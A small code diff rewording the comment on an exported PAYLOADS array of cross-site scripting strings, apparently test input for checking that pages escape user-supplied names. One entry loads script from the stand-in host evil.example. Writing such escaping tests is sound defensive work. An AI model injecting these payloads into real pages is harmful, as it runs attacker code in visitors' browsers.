@@ -1,4 +1,4 @@
-/** Names that would be markup, or leave an attribute, on a page that forgets to escape. */
+/** Names that become markup, or break out of an attribute, on a page that does not escape. */
 export const PAYLOADS = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
